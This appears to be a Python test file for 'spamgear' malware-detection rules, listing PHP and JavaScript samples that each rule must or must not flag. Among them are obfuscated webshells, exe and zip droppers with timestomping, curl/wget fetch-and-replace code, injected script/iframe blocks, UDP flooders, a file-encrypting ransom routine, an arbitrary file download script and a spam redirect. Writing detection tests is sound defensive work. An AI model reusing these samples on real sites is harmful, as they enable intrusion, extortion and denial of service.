# ruff: noqa: E501
"""Must-hit / near-miss samples for issue 4s: generic rules for the malicious corpus misses.

Issue 4s triaged the 134 corpus files spamgear did not flag (legitimate code, benign tools,
malicious). For the malicious shapes it added behaviour rules; every variant below is written for
this table (the payload blobs are base64 of bytes made here: a fake MZ header, a zip built with
zipfile, a repeated echo line) and is checked as written, `padded(...)` and `embedded(...)`.
TinyArbitraryDownload is size-limited (< 2 KB) on purpose, so it is only checked as written.
Nothing here comes from the malware corpus.  Collected by tests/test_rules.py.
"""

from __future__ import annotations

import io
import zipfile
from base64 import b64encode

from tests.sample_hosts import embedded, padded, plain

_MZ = b64encode(
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(range(256)) * 2
).decode()
_PNG = b64encode(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 2).decode()


def _zip_b64() -> str:
    """A small zip archive made here, base64-encoded (starts UEsDB)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        archive.writestr("kit/readme.txt", "hello from a test archive " * 20)
        archive.writestr("kit/notes.txt", "another test file " * 30)
    return b64encode(buf.getvalue()).decode()


_ZIP = _zip_b64()
_CODE_B64 = b64encode(b"$t = 'test line'; echo $t;\n" * 60).decode()


def _three(rule: str, code: str, label: str) -> list[tuple[str, bytes, bool]]:
    """The snippet as written, behind HTML, and on top of a plugin file: all must hit."""
    return [(rule, plain(code), True), (rule, padded(code), True), (rule, embedded(code), True)]


GLUED_CF = "<?php\n$f = 'cr'.'ea'.'te_'.'fu'.'nc'.'tion';\n$d = 'ba'.'se6'.'4_'.'de'.'code';\n$g = $f('$s', 'return eval(' . $d . '($s));');\n$g($_COOKIE['k']);\n?>"
GLUED_SE = '<?php\n$r = "sh"."el"."l_e"."xec";\n$u = "g"."zi"."nfl"."ate";\n$o = $r($u(base64_decode($_POST["p"])));\n?>'
GLUED_CUF = (
    "<?php\n$c='c'.'a'.'ll_'.'user'.'_func';$x='s'.'tr_'.'r'.'ot13';\n$c('assert', $x($_REQUEST['z']));\n?>"
)
GLUED_ASSERT = '<?php\n$u = "con"."vert_"."uu"."decode";\n$a = "as"."se"."rt";\n$a($u($_POST[\'q\']));\n?>'
GLUED_EVAL = (
    "<?php\n$g = 'gz'.'de'.'code';\n$x = preg_replace('/.*/e', 'e'.'v'.'al($g($_COOKIE[1]));', '');\n?>"
)
GLUED_NEAR = (
    "<?php\n$d = 'gz'.'de'.'code';\n$ev = 'ev' . 'ent';\n$t = 'sys' . 'temd';\n$x = 'as' . 'sertion';\n"
)
GLUED_SPACED = "<?php\n$fn = 'sys' . 'te' . 'm';\n$dc = 'bas' . 'e64_' . 'de' . 'code';\n$fn($dc($_SERVER['HTTP_X_Q']));\n?>"
GLUED_DEC_ONLY = '<?php\n$d = "bas"."e64"."_dec"."ode";\n$t = $d($blob);\n?>'
EVAL_FN = (
    '<?php\n$p = "'
    + _CODE_B64
    + "\";\nfunction mk() { $a = 'ev'; return $a . 'al($c);'; }\n$c = base64_decode($p);\neval(mk());\n?>"
)
EXE_RUN = (
    '<?php\n$bin = "'
    + _MZ
    + "\";\nfile_put_contents('upd.exe', base64_decode($bin));\nexec('upd.exe /silent');\n?>"
)
EXE_RUN_VAR = (
    "<?php\n$pe = '"
    + _MZ
    + "';\n$name = 'svc.exe';\n$h = fopen($name, 'wb'); fwrite($h, base64_decode($pe)); fclose($h);\nshell_exec($name);\n?>"
)
ZIP_DROP = (
    '<?php\n$z = "'
    + _ZIP
    + "\";\nfile_put_contents('pack.zip', base64_decode($z));\n$a = new ZipArchive();\n$a->open('pack.zip');\n$a->extractTo('.');\n"
    "foreach (glob('kit/*') as $f) { touch($f, time() - 86400 * mt_rand(30, 300)); }\nunlink('pack.zip');\n?>"
)
FETCH_TS = "<?php\nfunction swap($dst, $ref, $url) {\n    shell_exec('curl -s -o ' . $dst . ' ' . $url);\n    shell_exec('touch -r ' . $ref . ' ' . $dst);\n}\nswap($root . '/lib/Payment.php', $root . '/lib/Base.php', $src);\n?>"
FETCH_TS_WGET = '<?php\nsystem("wget -q -O $target $remote");\nsystem("touch -r $neighbour $target");\n?>'
HEX_BLOCK = '<?php\n#a1b2c3#\nif (empty($q)) {\n$q = "<script type=\\"text/javascript\\" src=\\"https://cdn-stat.example.net/s.php?u=42\\"></script>";\necho $q;\n}\n#/a1b2c3#\n?>'
HEX_BLOCK_IFRAME = "<?php\n#0f9e8d#\necho '<iframe width=1 height=1 src=\"http://tracker.example.org/in.php?s=7\"></iframe>';\n#/0f9e8d#\n?>"
UDP = "<?php\nignore_user_abort(true);\nset_time_limit(0);\n$h = $_GET['h']; $p = (int) $_GET['p'];\n$end = time() + (int) $_GET['t'];\n$pk = str_repeat('X', 1024);\nwhile (time() < $end) {\n    $s = fsockopen(\"udp://$h\", $p, $en, $es, 3);\n    if ($s) { fwrite($s, $pk); fclose($s); }\n}\n?>"
UDP_SOCK = "<?php\nset_time_limit(0);\n$t = $_POST['target'];\n$sock = socket_create(AF_INET, SOCK_DGRAM, SOL_UDP);\nwhile (true) { socket_sendto($sock, str_repeat('A', 512), 512, 0, $t, 53); }\n?>"
RANSOM = (
    "<?php\nfunction lock($dir, $key) {\n    foreach (scandir($dir) as $n) {\n        if ($n === '.' || $n === '..') continue;\n"
    "        $p = $dir . '/' . $n;\n        if (is_dir($p)) { lock($p, $key); continue; }\n"
    "        $iv = random_bytes(16);\n        $c = openssl_encrypt(file_get_contents($p), 'aes-256-cbc', $key, 0, $iv);\n"
    "        file_put_contents($p, base64_encode($iv) . $c);\n        rename($p, $p . '.locked');\n    }\n}\n"
    "file_put_contents('.htaccess', \"DirectoryIndex pay.html\\n\");\nlock(getcwd(), $_POST['key']);\n?>"
)
DOWNLOAD = "<?php\n$f = $_GET['file'];\nheader('Content-Type: application/octet-stream');\nheader('Content-Disposition: attachment; filename=\"' . $f . '\"');\nreadfile($f);\n"
DOWNLOAD2 = "<?php\n$name = $_REQUEST['dl'];\nif ($name != '') {\n  $h = fopen($name, 'rb');\n  header(\"content-disposition: attachment; filename=$name\");\n  fpassthru($h);\n}\n"
JS_REF = '<script type="text/javascript">\nvar r = document.referrer;\nif (r.indexOf("google") > 0 || r.indexOf("bing") > 0 || r.indexOf("yahoo") > 0) {\n  location.href = "http://promo.example.org/";\n}\n</script>'
JS_REF2 = "<script>\nif (document.referrer.indexOf('baidu') != -1 || document.referrer.indexOf('sogou') != -1) { window.location = 'https://landing.example.com/a'; }\n</script>"

CASES: list[tuple[str, bytes, bool]] = [
    *_three("SPAMGEAR_OBFUSC_GluedSinkAndDecoder", GLUED_CF, "create_function"),
    *_three("SPAMGEAR_OBFUSC_GluedSinkAndDecoder", GLUED_SE, "shell_exec"),
    *_three("SPAMGEAR_OBFUSC_GluedSinkAndDecoder", GLUED_CUF, "call_user_func"),
    *_three("SPAMGEAR_OBFUSC_GluedSinkAndDecoder", GLUED_ASSERT, "assert"),
    *_three("SPAMGEAR_OBFUSC_GluedSinkAndDecoder", GLUED_EVAL, "eval"),
    *_three("SPAMGEAR_OBFUSC_GluedSinkAndDecoder", GLUED_SPACED, "spaced glue"),
    *_three("SPAMGEAR_OBFUSC_GluedDecoderMulti", GLUED_SPACED, "spaced glue"),
    ("SPAMGEAR_OBFUSC_GluedSinkAndDecoder", plain(GLUED_NEAR), False),
    # near misses: plain names, a name cut once, a glued word that is not a sink
    (
        "SPAMGEAR_OBFUSC_GluedSinkAndDecoder",
        plain("<?php\nif (function_exists('create_function')) { $x = base64_decode($s); }\n"),
        False,
    ),
    (
        "SPAMGEAR_OBFUSC_GluedSinkAndDecoder",
        plain("<?php\n$cb = 'create_' . $kind;\n$d = 'base64_' . 'decode';\n$cls = 'c' . 'ache';\n"),
        False,
    ),
    (
        "SPAMGEAR_OBFUSC_GluedSinkAndDecoder",
        plain("<?php\n$msg = 'Please ' . 'pass' . 'word';\n$t = 'gz' . 'ip';\n"),
        False,
    ),
    *_three("SPAMGEAR_OBFUSC_GluedDecoderMulti", GLUED_DEC_ONLY, "decoder"),
    (
        "SPAMGEAR_OBFUSC_GluedDecoderMulti",
        plain("<?php\n$d = 'base64_' . 'decode';\n$t = $d($blob);\n"),
        False,
    ),
    ("SPAMGEAR_OBFUSC_GluedDecoderMulti", plain("<?php\n$f = 'gzinflate';\n$g = 'str_rot13';\n"), False),
    *_three("SPAMGEAR_OBFUSC_EvalOfCallResultWithB64Blob", EVAL_FN, "eval(fn())"),
    (
        "SPAMGEAR_OBFUSC_EvalOfCallResultWithB64Blob",
        plain(EVAL_FN.replace("eval(mk());", "echo mk();")),
        False,
    ),
    (
        "SPAMGEAR_OBFUSC_EvalOfCallResultWithB64Blob",
        plain("<?php\n$img = base64_decode($logo);\n$v = eval(get_cfg());\n"),
        False,
    ),
    (
        "SPAMGEAR_OBFUSC_EvalOfCallResultWithB64Blob",
        plain("<?php\n$logo = '" + _PNG + "';\n$img = base64_decode($logo);\n$v = eval(get_cfg());\n"),
        False,
    ),
    *_three("SPAMGEAR_DROPPER_EmbeddedExeRun", EXE_RUN, "exe literal"),
    *_three("SPAMGEAR_DROPPER_EmbeddedExeRun", EXE_RUN_VAR, "exe var"),
    # near misses: an embedded PNG converted by a shell tool; an exe written but never run
    (
        "SPAMGEAR_DROPPER_EmbeddedExeRun",
        plain(
            '<?php\n$png = "'
            + _PNG
            + "\";\nfile_put_contents('a.png', base64_decode($png));\nexec('convert a.png a.jpg');\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_EmbeddedExeRun",
        plain(
            '<?php\n$bin = "'
            + _MZ
            + "\";\nheader('Content-Type: application/octet-stream');\necho base64_decode($bin);\n"
        ),
        False,
    ),
    *_three("SPAMGEAR_DROPPER_EmbeddedZipExtractBackdated", ZIP_DROP, "zip"),
    # near miss: a one-file installer that unpacks its bundled zip (no back-dating)
    (
        "SPAMGEAR_DROPPER_EmbeddedZipExtractBackdated",
        plain(ZIP_DROP.replace("touch($f, time() - 86400 * mt_rand(30, 300));", "chmod($f, 0644);")),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_EmbeddedZipExtractBackdated",
        plain(
            "<?php\n$zip = new ZipArchive();\n$zip->open($upload);\n$zip->extractTo($dir);\ntouch($dir . '/.stamp', time() - 60);\n"
        ),
        False,
    ),
    *_three("SPAMGEAR_DROPPER_ShellFetchThenTimestomp", FETCH_TS, "curl"),
    *_three("SPAMGEAR_DROPPER_ShellFetchThenTimestomp", FETCH_TS_WGET, "wget"),
    # near miss: an updater that downloads with curl and touches the file with PHP's touch()
    (
        "SPAMGEAR_DROPPER_ShellFetchThenTimestomp",
        plain(
            "<?php\nexec('curl -s -o ' . escapeshellarg($tmp) . ' ' . escapeshellarg($url));\ntouch($tmp);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_ShellFetchThenTimestomp",
        plain("<?php\n// keep mtimes: touch -r old new\nexec('cp -p ' . $a . ' ' . $b);\n"),
        False,
    ),
    *_three("SPAMGEAR_INJECTED_HexMarkerScriptBlock", HEX_BLOCK, "script"),
    *_three("SPAMGEAR_INJECTED_HexMarkerScriptBlock", HEX_BLOCK_IFRAME, "iframe"),
    # near misses: CSS colours next to an analytics tag; marker pair around a local script
    (
        "SPAMGEAR_INJECTED_HexMarkerScriptBlock",
        plain(
            "<style>a{color:#a1b2c3;} b{color:#0f9e8d;}</style>\n<?php echo '<script async src=\"https://www.googletagmanager.com/gtag/js?id=G-1\"></script>'; ?>\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_INJECTED_HexMarkerScriptBlock",
        plain("<?php\n#a1b2c3#\necho '<script src=\"/js/app.js\"></script>';\n#/a1b2c3#\n?>"),
        False,
    ),
    *_three("SPAMGEAR_TOOLKIT_UdpFlood", UDP, "fsockopen"),
    *_three("SPAMGEAR_TOOLKIT_UdpFlood", UDP_SOCK, "socket"),
    # near miss: a statsd counter sent over UDP from a page that reads a request field
    (
        "SPAMGEAR_TOOLKIT_UdpFlood",
        plain(
            "<?php\n$page = $_GET['page'];\n$s = fsockopen('udp://127.0.0.1', 8125);\nfwrite($s, 'hits.' . md5($page) . ':1|c');\nfclose($s);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_TOOLKIT_UdpFlood",
        plain(
            "<?php\nset_time_limit(0);\n$q = $_GET['q'];\n$s = fsockopen('udp://8.8.8.8', 53);\nfwrite($s, $packet);\nwhile (!feof($s)) { $r .= fread($s, 512); }\n"
        ),
        False,
    ),
    *_three("SPAMGEAR_TOOLKIT_FileEncryptRansom", RANSOM, "openssl"),
    # near miss: a backup encrypter (renames to .enc, protects its folder with Deny, no DirectoryIndex)
    (
        "SPAMGEAR_TOOLKIT_FileEncryptRansom",
        plain(RANSOM.replace("DirectoryIndex pay.html", "Deny from all")),
        False,
    ),
    (
        "SPAMGEAR_TOOLKIT_FileEncryptRansom",
        plain(
            "<?php\nforeach (scandir($d) as $n) { $p = \"$d/$n\"; file_put_contents($p, openssl_encrypt(file_get_contents($p), 'aes-256-cbc', $k)); }\n"
        ),
        False,
    ),
    ("SPAMGEAR_FILEMANAGER_TinyArbitraryDownload", plain(DOWNLOAD), True),
    ("SPAMGEAR_FILEMANAGER_TinyArbitraryDownload", plain(DOWNLOAD2), True),
    # near misses: the usual download.php shapes from a fixed folder
    (
        "SPAMGEAR_FILEMANAGER_TinyArbitraryDownload",
        plain(
            "<?php\n$f = $_GET['file'];\n$path = 'downloads/' . basename($f);\nheader('Content-Disposition: attachment; filename=\"' . basename($f) . '\"');\nreadfile($path);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_FILEMANAGER_TinyArbitraryDownload",
        plain(
            "<?php\n$f = $_GET['f'];\nheader('Content-Disposition: attachment; filename=report.pdf');\nreadfile(\"files/$f\");\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_FILEMANAGER_TinyArbitraryDownload",
        plain(
            "<?php\n$id = $_GET['id'];\n$map = array('1' => 'a.pdf', '2' => 'b.pdf');\nif (isset($map[$id])) { $file = $map[$id]; header('Content-Disposition: attachment'); readfile($file); }\n"
        ),
        False,
    ),
    ("SPAMGEAR_FILEMANAGER_TinyArbitraryDownload", padded(DOWNLOAD), False),  # size-limited on purpose
    *_three("SPAMGEAR_SEOSPAM_JsSearchReferrerRedirect", JS_REF, "location.href"),
    *_three("SPAMGEAR_SEOSPAM_JsSearchReferrerRedirect", JS_REF2, "window.location"),
    # near misses: analytics that notes search visitors; a search-visitor redirect to a local page
    (
        "SPAMGEAR_SEOSPAM_JsSearchReferrerRedirect",
        plain(
            "<script>\nif (document.referrer.indexOf('google') > -1 || document.referrer.indexOf('bing') > -1) { ga('send', 'event', 'search'); }\nfunction go() { location.href = '/thanks'; }\n</script>"
        ),
        False,
    ),
    (
        "SPAMGEAR_SEOSPAM_JsSearchReferrerRedirect",
        plain(
            "<script>\nvar r = document.referrer;\nif (r.indexOf('google') > 0) { location.href = 'https://m.example.com/'; }\n</script>"
        ),
        False,
    ),
]
